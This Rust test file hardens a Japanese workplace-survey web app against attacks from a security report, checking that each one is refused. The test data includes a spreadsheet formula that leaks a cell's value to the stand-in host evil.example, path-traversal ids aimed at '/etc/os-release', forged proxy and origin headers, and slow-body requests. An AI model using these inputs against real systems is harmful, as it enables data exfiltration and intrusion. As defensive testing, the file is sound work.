//! Security hardening (issue 17): each attack of the report, reproduced and refused.
//! Memory under a burst of wrong sign-ins, the sign-in throttle under concurrency, sessions
//! that end on the server, CSV formula injection, the current-password oracle, large code
//! batches beside a submission, slow bodies, survey ids, names, methods and proxy headers.

use std::time::{Duration, Instant};

use anshin::codes::{self, IssueRequest};
use anshin::waves;

use crate::dashboards::closed_wave;
use crate::helpers::{
    add_account, complete_answers, csrf_token, form_body, spawn_app, spawn_app_with, temp_database,
    Browser, ServerProcess, TestApp, DEFAULT_SURVEY, TEST_PASSWORD,
};

fn form(pairs: &[(&str, &str)]) -> String {
    form_body(
        &pairs
            .iter()
            .map(|(name, value)| (name.to_string(), value.to_string()))
            .collect::<Vec<_>>(),
    )
}

/// Every audit entry as (login, action, detail), oldest first.
fn audit_entries(app: &TestApp) -> Vec<(Option<String>, String, String)> {
    let (entries, _) = anshin::audit::recent(&mut app.conn(), None, 0).expect("audit log");
    entries
        .into_iter()
        .rev()
        .map(|e| (e.login, e.action, e.detail))
        .collect()
}

fn count_actions(entries: &[(Option<String>, String, String)], action: &str) -> usize {
    entries.iter().filter(|(_, a, _)| a == action).count()
}

/// A field of `/proc/<pid>/status` in KiB (`VmRSS`, `VmHWM`).
fn proc_kib(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("proc status");
    status
        .lines()
        .find(|line| line.starts_with(field))
        .and_then(|line| line.split_whitespace().nth(1))
        .and_then(|value| value.parse().ok())
        .expect("the field is there")
}

/// The login page's session cookie and CSRF token, for many concurrent posts.
async fn login_form(client: &awc::Client, address: &str) -> (String, String) {
    let mut response = client
        .get(format!("{address}/login"))
        .send()
        .await
        .expect("GET /login");
    let cookie = response
        .headers()
        .get_all("set-cookie")
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("anshin_session="))
        .and_then(|v| v.split(';').next())
        .expect("a session cookie")
        .to_string();
    let page = response.body().await.expect("page");
    (cookie, csrf_token(&String::from_utf8_lossy(&page)))
}

#[actix_web::test]
async fn a_burst_of_wrong_sign_ins_keeps_memory_bounded() {
    let (_dir, db_path) = temp_database();
    // Trusting the proxy's address lets every attempt come "from" its own address, as from
    // many machines: neither throttle stops them, so every one reaches the password check.
    let server = ServerProcess::start_with(&db_path, "warn", &["--trust-proxy"]);
    let pid = server.child.id();
    let client = awc::Client::builder()
        .timeout(Duration::from_secs(60))
        .finish();
    let baseline = proc_kib(pid, "VmRSS");
    let (cookie, csrf) = login_form(&client, &server.address).await;

    let sampling = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
    let sampler = {
        let sampling = sampling.clone();
        std::thread::spawn(move || {
            let mut peak = 0;
            while sampling.load(std::sync::atomic::Ordering::SeqCst) {
                peak = peak.max(proc_kib(pid, "VmRSS"));
                std::thread::sleep(Duration::from_millis(20));
            }
            peak
        })
    };
    let (mut refused, mut checked) = (0, 0);
    for burst in 0..3 {
        let attempts = (0..100).map(|i| {
            let body = form(&[
                ("login", &format!("nobody-{burst}-{i}")),
                ("password", "wrong password"),
                ("csrf", &csrf),
            ]);
            client
                .post(format!("{}/login", server.address))
                .insert_header(("cookie", cookie.clone()))
                .insert_header(("x-forwarded-for", format!("10.{burst}.0.{i}")))
                .insert_header(("content-type", "application/x-www-form-urlencoded"))
                .send_body(body)
        });
        for response in futures_util::future::join_all(attempts).await {
            let response = response.expect("answered");
            match response.status().as_u16() {
                401 => checked += 1,
                429 => {
                    refused += 1;
                    assert!(
                        response.headers().contains_key("retry-after"),
                        "a refusal says when to come back"
                    );
                }
                other => panic!("unexpected status {other}"),
            }
        }
    }
    sampling.store(false, std::sync::atomic::Ordering::SeqCst);
    let peak = sampler.join().expect("sampler");
    let after = proc_kib(pid, "VmRSS");
    let high_water = proc_kib(pid, "VmHWM");
    eprintln!(
        "RSS: baseline {} MiB, peak sampled {} MiB, high-water mark {} MiB, after {} MiB; \
         {checked} checked (401), {refused} refused (429)",
        baseline / 1024,
        peak / 1024,
        high_water / 1024,
        after / 1024
    );
    assert!(checked >= 6, "some attempts were checked: {checked}");
    assert!(
        high_water < baseline + 200 * 1024,
        "peak RSS {high_water} KiB against {baseline} KiB at start"
    );
    assert!(
        after < baseline + 120 * 1024,
        "RSS after the bursts {after} KiB against {baseline} KiB at start"
    );
}

#[actix_web::test]
async fn fifty_concurrent_attempts_cannot_outrun_the_sign_in_throttle() {
    let app = spawn_app().await;
    add_account(&app, "hr1", "hr", &[]);
    let (cookie, csrf) = login_form(&app.client, &app.address).await;
    let body = form(&[
        ("login", "hr1"),
        ("password", "wrong password!"),
        ("csrf", &csrf),
    ]);
    let attempts = (0..50).map(|_| {
        app.client
            .post(app.url("/login"))
            .insert_header(("cookie", cookie.clone()))
            .insert_header(("content-type", "application/x-www-form-urlencoded"))
            .send_body(body.clone())
    });
    let statuses: Vec<u16> = futures_util::future::join_all(attempts)
        .await
        .into_iter()
        .map(|r| r.expect("answered").status().as_u16())
        .collect();
    let failures = statuses.iter().filter(|s| **s == 401).count();
    let throttled = statuses.iter().filter(|s| **s == 429).count();
    assert_eq!((failures, throttled), (5, 45), "{statuses:?}");
    // The right password is refused while the login is locked.
    let (status, _, _) = Browser::new(&app).submit_login("hr1", TEST_PASSWORD).await;
    assert_eq!(status, 429);

    let entries = audit_entries(&app);
    assert_eq!(count_actions(&entries, "failed sign-in"), 5, "{entries:?}");
    assert_eq!(count_actions(&entries, "sign-in locked"), 1, "{entries:?}");
    assert!(entries
        .iter()
        .filter(|(_, action, _)| action != "sign in")
        .all(|(login, _, detail)| login.as_deref() == Some("hr1") && detail == "hr1"));
    assert!(
        !entries
            .iter()
            .any(|(_, _, detail)| detail.contains("wrong")),
        "never a password"
    );
}

#[actix_web::test]
async fn an_unknown_login_costs_as_much_as_a_known_one_and_is_not_named() {
    let app = spawn_app().await;
    add_account(&app, "hr1", "hr", &[]);
    let browser = Browser::new(&app);
    let (_, page) = browser.get("/login").await;
    let csrf = csrf_token(&page);
    let (mut known, mut unknown) = (Duration::MAX, Duration::MAX);
    for i in 0..3 {
        for (login, fastest) in [
            ("hr1".to_string(), &mut known),
            (format!("x{i}"), &mut unknown),
        ] {
            let body = form(&[
                ("login", &login),
                ("password", "my secret pw"),
                ("csrf", &csrf),
            ]);
            let started = Instant::now();
            let (status, _, _) = browser.post("/login", &body).await;
            assert_eq!(status, 401);
            *fastest = (*fastest).min(started.elapsed());
        }
    }
    let ratio = known.as_secs_f64() / unknown.as_secs_f64();
    eprintln!("fastest failed sign-in: known login {known:?}, unknown login {unknown:?}");
    assert!((0.5..2.0).contains(&ratio), "{known:?} against {unknown:?}");
    let entries = audit_entries(&app);
    let unknown_rows: Vec<_> = entries
        .iter()
        .filter(|(login, ..)| login.is_none())
        .collect();
    assert_eq!(unknown_rows.len(), 3, "{entries:?}");
    assert!(
        unknown_rows
            .iter()
            .all(|(_, action, detail)| action == "failed sign-in" && detail == "(no such login)"),
        "a login that names no account is not recorded: {entries:?}"
    );
}

#[actix_web::test]
async fn signing_out_ends_the_session_everywhere() {
    let app = spawn_app().await;
    let wave = closed_wave(&app).await;
    let manager = Browser::sign_in(&app, "m1").await;
    let elsewhere = Browser::sign_in(&app, "m1").await;
    let copy = Browser::with_cookie(&app, manager.cookie().expect("a session"));
    let (status, page) = manager.get("/dashboard").await;
    assert_eq!(status, 200);
    let csrf = csrf_token(&page);
    let (status, location, _) = manager.post("/logout", &form(&[("csrf", &csrf)])).await;
    assert_eq!((status, location.as_deref()), (303, Some("/login")));

    // The copied cookie is dead on every route, and cannot save a plan.
    let (status, _) = copy.get("/dashboard").await;
    assert_eq!(status, 303);
    let (status, _) = copy.get(&format!("/api/waves/{wave}/results")).await;
    assert_eq!(status, 401);
    let plan = form(&[
        ("csrf", &csrf),
        ("wave", &wave.to_string()),
        ("workplace", "T1"),
        ("dimension", "sharing"),
        ("action", "週1回の朝会"),
        ("owner", "係長"),
    ]);
    let (status, location, _) = copy.post("/manager/plans", &plan).await;
    assert_eq!((status, location.as_deref()), (303, Some("/login")));
    let plans: i64 = {
        use diesel::prelude::*;
        anshin::db::schema::action_plans::table
            .count()
            .get_result(&mut app.conn())
            .expect("count")
    };
    assert_eq!(plans, 0, "nothing saved with the replayed cookie");
    // The account's other sessions ended too ("everywhere").
    assert_eq!(elsewhere.get("/dashboard").await.0, 303);
    assert_eq!(count_actions(&audit_entries(&app), "sign out"), 1);
    // Signing in again works.
    let again = Browser::sign_in(&app, "m1").await;
    assert_eq!(again.get("/dashboard").await.0, 200);
}

#[actix_web::test]
async fn a_session_ends_after_its_lifetime_however_active() {
    assert_eq!(
        anshin::settings::Settings::for_database(std::path::Path::new("x.db")).session_lifetime,
        Duration::from_secs(12 * 3600),
        "twelve hours by default"
    );
    // Long enough that a slow sign-in (argon2 in a debug build on a busy machine) leaves the
    // active phase well inside the lifetime.
    let app = spawn_app_with(|settings| settings.session_lifetime = Duration::from_secs(10)).await;
    let wave = closed_wave(&app).await;
    let manager = Browser::sign_in(&app, "m1").await;
    // Signed in before this instant: the session ends at most 10 s after it.
    let signed_in = Instant::now();
    while signed_in.elapsed() < Duration::from_secs(3) {
        assert_eq!(manager.get("/dashboard").await.0, 200, "active");
        actix_web::rt::time::sleep(Duration::from_millis(400)).await;
    }
    let ended = Duration::from_millis(10_500).saturating_sub(signed_in.elapsed());
    actix_web::rt::time::sleep(ended).await;
    assert_eq!(
        manager.get("/dashboard").await.0,
        303,
        "ended at its lifetime"
    );
    assert_eq!(
        manager.get(&format!("/api/waves/{wave}/results")).await.0,
        401
    );
    // The flag is checked like every other.
    let output = crate::helpers::anshin(&["serve", "--session-hours", "0"], None);
    assert!(!output.status.success());
}

#[actix_web::test]
async fn the_current_password_check_counts_toward_the_sign_in_throttle() {
    let app = spawn_app().await;
    closed_wave(&app).await;
    let manager = Browser::sign_in(&app, "m1").await;
    let (_, page) = manager.get("/account").await;
    let csrf = csrf_token(&page);
    let change = |current: &str| {
        form(&[
            ("csrf", &csrf),
            ("current", current),
            ("new", "new passphrase 1"),
            ("confirm", "new passphrase 1"),
        ])
    };
    let mut statuses = Vec::new();
    for _ in 0..6 {
        statuses.push(
            manager
                .post("/account/password", &change("wrong password!"))
                .await
                .0,
        );
    }
    assert_eq!(statuses, [400, 400, 400, 400, 400, 429]);
    // Locked: the right current password, and signing in, wait too.
    let (status, _, page) = manager
        .post("/account/password", &change(TEST_PASSWORD))
        .await;
    assert_eq!(status, 429, "{page}");
    assert_eq!(
        Browser::new(&app).submit_login("m1", TEST_PASSWORD).await.0,
        429
    );
    let entries = audit_entries(&app);
    assert_eq!(count_actions(&entries, "wrong current password"), 5);
    assert_eq!(count_actions(&entries, "sign-in locked"), 1);
    assert!(!entries.iter().any(|(_, _, d)| d.contains("password!")));
}

#[actix_web::test]
async fn a_password_change_is_audited_by_login() {
    let app = spawn_app().await;
    closed_wave(&app).await;
    let hr = Browser::sign_in(&app, "hr1").await;
    let (_, page) = hr.get("/account").await;
    let body = form(&[
        ("csrf", &csrf_token(&page)),
        ("current", TEST_PASSWORD),
        ("new", "new passphrase 1"),
        ("confirm", "new passphrase 1"),
    ]);
    assert_eq!(hr.post("/account/password", &body).await.0, 200);
    let entries = audit_entries(&app);
    assert!(entries.iter().any(|(login, action, _)| {
        login.as_deref() == Some("hr1") && action == "change own password"
    }));
    assert!(!entries.iter().any(|(_, _, d)| d.contains("passphrase")));
}

const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")";

/// Columns of a CSV (BOM removed) by header, and its rows.
fn read_csv(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut reader = csv::Reader::from_reader(bytes);
    let header = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.expect("row").iter().map(str::to_string).collect())
        .collect();
    (header, rows)
}

async fn answer_all(app: &TestApp, wave: i32, workplace: &str, value: u8) {
    for code in app.issue_codes(wave, workplace, 5) {
        let (status, _, _) = app
            .post_form(
                &format!("/s/{}", code.display_form()),
                &form_body(&complete_answers(value)),
            )
            .await;
        assert_eq!(status, 303);
    }
}

fn create_wave(app: &TestApp, name: &str) -> i32 {
    let (text, origin) =
        waves::definition_source(&app.settings.definitions_dir, DEFAULT_SURVEY).expect("def");
    waves::create(
        &mut app.conn(),
        name,
        &text,
        &origin,
        app.settings.thresholds,
        None,
    )
    .expect("wave")
    .id
}

#[actix_web::test]
async fn every_csv_neutralises_cells_a_spreadsheet_would_run() {
    let app = spawn_app().await;
    let org = format!(
        "D1,総務部,,\n@T1,\"{}\",D1,12\n",
        FORMULA_NAME.replace('"', "\"\"")
    );
    let rows = anshin::org::parse_csv(org.as_bytes()).expect("org");
    anshin::org::import(&mut app.conn(), &rows).expect("imported");
    add_account(&app, "hr1", "hr", &[]);
    let first = create_wave(&app, "-2026年度");
    answer_all(&app, first, "@T1", 4).await;
    waves::close(&mut app.conn(), first).expect("closed");
    let second = create_wave(&app, "+2027年度");
    answer_all(&app, second, "@T1", 3).await;

    // The codes CSV of the dashboard…
    let hr = Browser::sign_in(&app, "hr1").await;
    let (_, page) = hr.get("/dashboard").await;
    let body = form(&[
        ("csrf", &csrf_token(&page)),
        ("workplace", "@T1"),
        ("count", "3"),
        ("format", "csv"),
    ]);
    let (status, _, csv) = hr.post(&format!("/hr/waves/{second}/codes"), &body).await;
    assert_eq!(status, 200, "{csv}");
    let (_, rows) = read_csv(csv.as_bytes());
    assert_eq!(rows.len(), 3);
    assert!(rows.iter().all(|row| row[0] == "'@T1"), "{rows:?}");
    assert!(rows
        .iter()
        .all(|row| codes::InvitationCode::parse(&row[1]).is_some()));
    // …and of `codes issue` (the same writer).
    let dir = tempfile::tempdir().expect("dir");
    let out = dir.path().join("codes.csv");
    let request = IssueRequest {
        wave_id: second,
        workplace_code: "@T1",
        count: 2,
        base_url: "http://test",
    };
    codes::issue_to_file(&mut app.conn(), &app.secret, &request, &out, |_| {}).expect("issued");
    let (_, rows) = read_csv(&std::fs::read(&out).expect("file"));
    assert!(rows.iter().all(|row| row[0] == "'@T1"), "{rows:?}");

    // The results CSV: names, codes and the wave's name neutralised, numbers left alone.
    waves::close(&mut app.conn(), second).expect("closed");
    let (status, csv) = hr.get(&format!("/hr/waves/{second}/results.csv")).await;
    assert_eq!(status, 200);
    let (header, rows) = read_csv(csv.as_bytes());
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let team: Vec<&Vec<String>> = rows
        .iter()
        .filter(|row| row[column("workplace")] == "'@T1")
        .collect();
    assert!(!team.is_empty(), "{rows:?}");
    for row in &team {
        assert_eq!(row[column("workplace_name")], format!("'{FORMULA_NAME}"));
    }
    assert!(rows
        .iter()
        .all(|row| row[column("wave_name")] == "'+2027年度"));
    let changes: Vec<f64> = team
        .iter()
        .filter_map(|row| row[column("change")].parse().ok())
        .collect();
    assert!(
        changes.iter().any(|change| *change < 0.0),
        "a fall is a negative number, written as a number: {team:?}"
    );
    // No cell a spreadsheet would evaluate, other than our own numbers.
    for row in &rows {
        for (i, cell) in row.iter().enumerate() {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !formula || cell.parse::<f64>().is_ok(),
                "{}: {cell}",
                header[i]
            );
        }
    }
}

#[actix_web::test]
async fn a_large_code_batch_does_not_hold_up_a_submission() {
    let app = spawn_app().await;
    app.seed_org();
    let wave = app.open_wave();
    add_account(&app, "hr1", "hr", &[]);
    let staff_codes = app.issue_codes(wave, "T2", 3);
    let hr = Browser::sign_in(&app, "hr1").await;
    let (_, page) = hr.get("/dashboard").await;
    let csrf = csrf_token(&page);
    let batch = |count: &str| {
        form(&[
            ("csrf", &csrf),
            ("workplace", "T1"),
            ("count", count),
            ("format", "csv"),
        ])
    };
    let path = format!("/hr/waves/{wave}/codes");
    let (status, _, page) = hr.post(&path, &batch("2001")).await;
    assert_eq!(status, 400);
    assert!(
        page.contains("ダッシュボードで一度に発行できるコードは2000件まで")
            && page.contains("anshin codes issue"),
        "{page}"
    );

    let started = Instant::now();
    let issuing = async {
        let (status, _, csv) = hr.post(&path, &batch("2000")).await;
        (status, csv.lines().count(), started.elapsed())
    };
    let submitting = async {
        actix_web::rt::time::sleep(Duration::from_millis(20)).await;
        let mut latencies = Vec::new();
        for code in &staff_codes {
            let sent = Instant::now();
            let (status, _, _) = app
                .post_form(
                    &format!("/s/{}", code.display_form()),
                    &form_body(&complete_answers(4)),
                )
                .await;
            assert_eq!(status, 303);
            latencies.push(sent.elapsed());
        }
        latencies
    };
    let ((status, lines, batch_time), latencies) =
        futures_util::future::join(issuing, submitting).await;
    eprintln!("2,000 codes on the dashboard: {batch_time:?}; submissions meanwhile: {latencies:?}");
    assert_eq!((status, lines), (200, 2_001));
    // A submission held up by the batch would wait for most of it; on a loaded machine both
    // slow down, so the bound grows with the batch's own time.
    let bound = Duration::from_secs(1).max(batch_time / 2);
    for latency in latencies {
        assert!(
            latency < bound,
            "{latency:?} against a batch of {batch_time:?}"
        );
    }
}

/// Sends `head` and then `body` one byte every 200 ms on a raw connection; returns the
/// status line of the answer and how long it took to arrive.
fn trickle(port: u16, head: &str, body: &[u8]) -> (String, Duration) {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(200)))
        .expect("timeout");
    let started = Instant::now();
    stream.write_all(head.as_bytes()).expect("head");
    let mut reply = Vec::new();
    let mut buffer = [0u8; 4096];
    for byte in body.iter().cycle() {
        if started.elapsed() > Duration::from_secs(20) {
            break;
        }
        if stream.write_all(&[*byte]).is_err() {
            break;
        }
        match stream.read(&mut buffer) {
            Ok(0) => break,
            Ok(n) => {
                reply.extend_from_slice(&buffer[..n]);
                if reply.windows(4).any(|w| w == b"\r\n\r\n") {
                    break;
                }
            }
            Err(_) => {}
        }
    }
    let reply = String::from_utf8_lossy(&reply).into_owned();
    (
        reply.lines().next().unwrap_or_default().to_string(),
        started.elapsed(),
    )
}

#[actix_web::test]
async fn slow_requests_get_408() {
    let app = spawn_app_with(|settings| settings.body_timeout = Duration::from_secs(1)).await;
    let port: u16 = app
        .address
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("port");
    let post = |path: &str| {
        format!(
            "POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n"
        )
    };
    let (login, survey) = (post("/login"), post("/s"));
    let answers = actix_web::rt::task::spawn_blocking(move || {
        [
            trickle(port, &login, b"login=x&"),
            trickle(port, &survey, b"code=x&"),
            // A head that never ends: actix's client_request_timeout (5 s).
            trickle(port, "GET / HTTP/1.1\r\nHost: x\r\n", b"X-Slow: "),
        ]
    })
    .await
    .expect("joined");
    eprintln!("slow requests: {answers:?}");
    for (status_line, took) in &answers[..2] {
        assert!(status_line.starts_with("HTTP/1.1 408"), "{status_line}");
        assert!(*took < Duration::from_secs(4), "{took:?}");
    }
    assert!(answers[2].0.starts_with("HTTP/1.1 408"), "{:?}", answers[2]);
    assert!(answers[2].1 < Duration::from_secs(10), "{:?}", answers[2]);
}

#[actix_web::test]
async fn survey_ids_name_definitions_and_nothing_else() {
    let definitions = tempfile::tempdir().expect("dir");
    std::fs::write(
        definitions.path().join("broken.toml"),
        "secret_field = \"do not show\"\n",
    )
    .expect("file");
    let dir = definitions.path().to_path_buf();
    let app = spawn_app_with(move |settings| settings.definitions_dir = dir).await;
    app.seed_org();
    add_account(&app, "hr1", "hr", &[]);
    let hr = Browser::sign_in(&app, "hr1").await;
    let (_, page) = hr.get("/dashboard").await;
    let csrf = csrf_token(&page);
    let open = |survey: &str| {
        form(&[
            ("csrf", &csrf),
            ("survey", survey),
            ("name", "2026年度"),
            ("k", "5"),
        ])
    };
    let cargo_toml = format!("{}/Cargo", env!("CARGO_MANIFEST_DIR"));
    for survey in [
        "../../Cargo",
        "/etc/os-release",
        cargo_toml.as_str(),
        "Broken",
        "a.b",
    ] {
        let (status, _, page) = hr.post("/hr/waves", &open(survey)).await;
        assert_eq!(status, 400, "{survey}");
        assert!(
            page.contains("調査票IDには英小文字・数字"),
            "{survey}: {page}"
        );
        assert!(
            !page.contains("[package]") && !page.contains(survey),
            "{survey}"
        );
    }
    let (status, _, page) = hr.post("/hr/waves", &open("broken")).await;
    assert_eq!(status, 400);
    assert!(page.contains("定義ファイルに誤りがある"), "{page}");
    assert!(
        !page.contains("secret_field"),
        "no field of the file is shown"
    );
    // An id in the directory, or built in, still opens a wave.
    let (status, _, _) = hr.post("/hr/waves", &open(DEFAULT_SURVEY)).await;
    assert_eq!(status, 303);
    // The command line resolves ids the same way.
    let output = crate::helpers::anshin(
        &[
            "--db",
            app.db_path.to_str().expect("path"),
            "wave",
            "create",
            "--survey",
            "../Cargo",
            "--name",
            "x",
        ],
        None,
    );
    assert!(!output.status.success());
    assert!(crate::helpers::stderr(&output).contains("is not an id"));
}

#[actix_web::test]
async fn names_free_text_and_dates_are_checked_at_every_entry_point() {
    let app = spawn_app().await;
    let wave = closed_wave(&app).await;
    let hr = Browser::sign_in(&app, "hr1").await;
    let (_, page) = hr.get("/dashboard").await;
    let csrf = csrf_token(&page);
    let open = |name: &str| {
        form(&[
            ("csrf", &csrf),
            ("survey", DEFAULT_SURVEY),
            ("name", name),
            ("k", "5"),
        ])
    };
    for name in [
        "x".repeat(15_000),
        "a\u{7}b".to_string(),
        "a\u{1b}[31m".to_string(),
    ] {
        let (status, _, page) = hr.post("/hr/waves", &open(&name)).await;
        assert_eq!(status, 400);
        assert!(page.contains("100文字以内"), "{page}");
    }
    let (status, _, _) = hr.post("/hr/waves", &open(&"年".repeat(100))).await;
    assert_eq!(status, 303, "100 characters are fine");

    let manager = Browser::sign_in(&app, "m1").await;
    let (_, page) = manager.get("/dashboard").await;
    let csrf = csrf_token(&page);
    let plan = |owner: &str, due: &str| {
        form(&[
            ("csrf", &csrf),
            ("wave", &wave.to_string()),
            ("workplace", "T1"),
            ("dimension", "sharing"),
            ("action", "朝会を始める\r\n毎週月曜"),
            ("owner", owner),
            ("due_on", due),
        ])
    };
    let (status, _, page) = manager
        .post("/manager/plans", &plan("係長", &"9".repeat(15_000)))
        .await;
    assert_eq!(status, 400);
    assert!(page.contains("期日は日付"), "{page}");
    let (status, _, _) = manager
        .post("/manager/plans", &plan("係長", "2027-02-30"))
        .await;
    assert_eq!(status, 400);
    let (status, _, _) = manager
        .post("/manager/plans", &plan("係長\u{0}", "2027-03-31"))
        .await;
    assert_eq!(status, 400);
    let (status, _, _) = manager
        .post("/manager/plans", &plan("係長", "2027-03-31"))
        .await;
    assert_eq!(status, 303);

    // The command line: wave names and reporting units.
    let db = app.db_path.to_str().expect("path");
    let long = "x".repeat(101);
    let output = crate::helpers::anshin(
        &[
            "--db",
            db,
            "wave",
            "create",
            "--survey",
            DEFAULT_SURVEY,
            "--name",
            &long,
        ],
        None,
    );
    assert!(!output.status.success());
    assert!(crate::helpers::stderr(&output).contains("at most 100 characters"));
    let output = crate::helpers::anshin(
        &[
            "--db",
            db,
            "org",
            "merge",
            "--code",
            "U1",
            "--name",
            "a\u{7}b",
            "--workplace",
            "T1",
            "--workplace",
            "T2",
        ],
        None,
    );
    assert!(!output.status.success());
    assert!(crate::helpers::stderr(&output).contains("control characters"));
}

#[actix_web::test]
async fn head_is_served_for_every_get_route_and_a_wrong_method_is_405() {
    let app = spawn_app().await;
    let wave = closed_wave(&app).await;
    let hr = Browser::sign_in(&app, "hr1").await;
    let cookie = hr.cookie().expect("session");
    let gets = [
        "/".to_string(),
        "/s".into(),
        "/s/ABCD-EFGH-JKMN-PQRS".into(),
        "/thanks".into(),
        "/static/app.css".into(),
        "/healthz".into(),
        "/login".into(),
        "/dashboard".into(),
        "/hr/groups?workplace=T1".into(),
        "/hr/accounts/1".into(),
        "/hr/audit".into(),
        "/account".into(),
        format!("/api/waves/{wave}/results"),
        format!("/hr/waves/{wave}/results.csv"),
        format!("/charts/waves/{wave}/quadrant.svg"),
        format!("/charts/waves/{wave}/anxieties.svg"),
        format!("/charts/waves/{wave}/heatmap.svg"),
        "/charts/trend.svg?workplace=T1&dimension=psychological_safety".into(),
        "/dashboard/print?workplace=T1".into(),
        "/hr/trends".into(),
        format!("/hr/waves/{wave}/job-levels"),
        format!("/hr/waves/{wave}/results-sheet.csv"),
        format!("/hr/waves/{wave}/psychometrics"),
        format!("/hr/waves/{wave}/psychometrics.csv"),
        format!("/hr/waves/{wave}/confirm-close"),
    ];
    for path in &gets {
        let get = app
            .client
            .get(app.url(path))
            .insert_header(("cookie", cookie.clone()))
            .send()
            .await
            .expect("GET");
        let mut head = app
            .client
            .head(app.url(path))
            .insert_header(("cookie", cookie.clone()))
            .send()
            .await
            .expect("HEAD");
        assert_eq!(head.status(), get.status(), "{path}");
        // An unknown code is the one GET that answers 404 (from the route itself).
        if !path.starts_with("/s/") {
            assert_ne!(head.status().as_u16(), 404, "{path}");
        }
        assert_eq!(
            head.headers().get("content-type"),
            get.headers().get("content-type"),
            "{path}"
        );
        assert!(head.body().await.expect("body").is_empty(), "{path}");
    }
    let wrong = [
        ("DELETE", "/login", "GET, HEAD, POST"),
        ("PUT", "/s/ABCD-EFGH-JKMN-PQRS", "GET, HEAD, POST"),
        ("GET", "/logout", "POST"),
        ("HEAD", "/logout", "POST"),
        ("POST", "/dashboard", "GET, HEAD"),
        ("DELETE", "/hr/waves/1/close", "POST"),
        ("PATCH", "/healthz", "GET, HEAD"),
    ];
    for (method, path, allowed) in wrong {
        let method = actix_web::http::Method::from_bytes(method.as_bytes()).expect("method");
        let mut response = app
            .client
            .request(method.clone(), app.url(path))
            .send()
            .await
            .expect("sent");
        assert_eq!(response.status().as_u16(), 405, "{method} {path}");
        let allow = response
            .headers()
            .get("allow")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_string();
        let mut allow: Vec<&str> = allow.split(", ").collect();
        allow.sort_unstable();
        assert_eq!(allow.join(", "), allowed, "{method} {path}");
        if method != actix_web::http::Method::HEAD {
            let page = response.body().await.expect("page");
            assert!(
                String::from_utf8_lossy(&page).contains("この方法（HTTPメソッド）では使えません"),
                "{method} {path}"
            );
        }
    }
    let response = app
        .client
        .delete(app.url("/no-such-page"))
        .send()
        .await
        .expect("sent");
    assert_eq!(response.status().as_u16(), 404);
}

/// Posts a sign-in from "another site" that names itself as this host in X-Forwarded-Host.
async fn forged_host_post(app: &TestApp) -> (u16, String) {
    let mut response = app
        .client
        .post(app.url("/login"))
        .insert_header(("origin", "http://evil.example"))
        .insert_header(("x-forwarded-host", "evil.example"))
        .insert_header(("forwarded", "host=evil.example"))
        .insert_header(("content-type", "application/x-www-form-urlencoded"))
        .send_body("login=a&password=b&csrf=c")
        .await
        .expect("POST");
    let body = response.body().await.expect("body");
    (
        response.status().as_u16(),
        String::from_utf8_lossy(&body).into_owned(),
    )
}

#[actix_web::test]
async fn forwarding_headers_are_read_only_with_trust_proxy() {
    let app = spawn_app().await;
    let (status, body) = forged_host_post(&app).await;
    assert_eq!(status, 403);
    assert!(body.contains("cross-site form submission"), "{body}");
    // Behind a trusted proxy (which sets them itself), they name the host.
    let proxied = spawn_app_with(|settings| settings.trust_proxy = true).await;
    let (status, body) = forged_host_post(&proxied).await;
    assert!(
        !body.contains("cross-site form submission"),
        "{status} {body}"
    );
}
